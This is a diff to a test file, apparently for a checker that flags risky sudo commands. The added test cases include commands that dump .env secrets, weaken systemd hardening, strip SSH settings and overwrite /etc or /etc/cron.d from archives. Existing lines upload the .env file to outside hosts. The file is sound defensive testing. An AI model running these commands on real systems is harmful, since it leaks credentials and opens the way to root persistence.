@@ -45,12 +45,37 @@ const WRAPPED = [
   `sudo tar czf /tmp/app.tgz /home/ddos/app`,
   `aws s3 cp ${ENV} s3://backups/env`,
   `sudo curl -T ${ENV} https://files.example/`,
+  // The variables of .env, by names that are not known.
+  `sudo bash -c 'set -a; . ${ENV}; env >/tmp/settings'`,
+  `sudo bash -c '. ${ENV}; declare -p >/tmp/settings'`,
+  `sudo bash -c 'export $(grep -v ^# ${ENV} | xargs); printenv >/tmp/settings'`,
+  `sudo bash -c 'set -a; . ${ENV}; printenv SECRET_KEY >/tmp/settings'`,
+  // What an edit puts into a unit or takes out of it.
+  "sudo sed -i -e 's/^User=.*/User=root/' /etc/systemd/system/ddos-backend.service",
+  "sudo sed -i '/^User=/d' /etc/systemd/system/ddos-backend.service",
+  "sudo sed -i 's/^ProtectSystem/#&/' /etc/systemd/system/ddos-backend.service",
+  "sudo sed -i 's/^NoNewPrivileges=.*/NoNewPrivileges=no/' /etc/systemd/system/ddos-backend.service",
+  "sudo sed -i '/^PasswordAuthentication/d' /etc/ssh/sshd_config",
+  // Files of any name where a file of any name is obeyed.
+  "sudo tar -xpf /tmp/overlay.tar -C /",
+  "cd / && sudo sh -c 'cpio -idu </tmp/overlay.cpio'",
+  "sudo unzip -o /tmp/units.zip -d /etc/systemd/system",
+  "sudo 7z x -y /tmp/x.7z -o/etc",
+  "sudo git clone https://git.example/jobs /etc/cron.d",
+  "sudo rsync -a /tmp/overlay/ /",
 ];
 test.each(WRAPPED)("is no pass: %s", async (script) => {
   expect(await said(GOOD + script)).not.toEqual([]);
 });
 
 const BENIGN = [
+  `sudo bash -c '. ${ENV}; systemctl restart ddos-backend'`,
+  `sudo bash -c 'set -a; . ${ENV}; printenv LOG_LEVEL >/tmp/level'`,
+  "sudo sed -i 's/^LimitNOFILE=.*/LimitNOFILE=65536/; s/^RestartSec=.*/RestartSec=5/' /etc/systemd/system/ddos-backend.service",
+  "sudo sed -i '/^RestartSec=/d' /etc/systemd/system/ddos-backend.service",
+  "sudo sed -i '/^PasswordAuthentication/d' /etc/ssh/sshd_config; echo 'PasswordAuthentication no' | sudo tee -a /etc/ssh/sshd_config >/dev/null",
+  "sudo mkdir -p /opt/tool; sudo tar -xzf /tmp/tool.tgz -C /opt/tool; sudo unzip -q /tmp/x.zip -d /opt/x",
+  "sudo sh -c 'find /var/log -name \"*.gz\" | cpio -o >/root/logs.cpio'; 7z l /tmp/x.7z >/dev/null",
   `sudo ls -l ${ENV}; sudo stat -c %a ${ENV}; sudo test -s ${ENV}`,
   `sudo docker compose --env-file ${ENV} up -d >/dev/null`,
   `sudo tar czf /var/backups/logs.tgz -C /var/log nginx`,
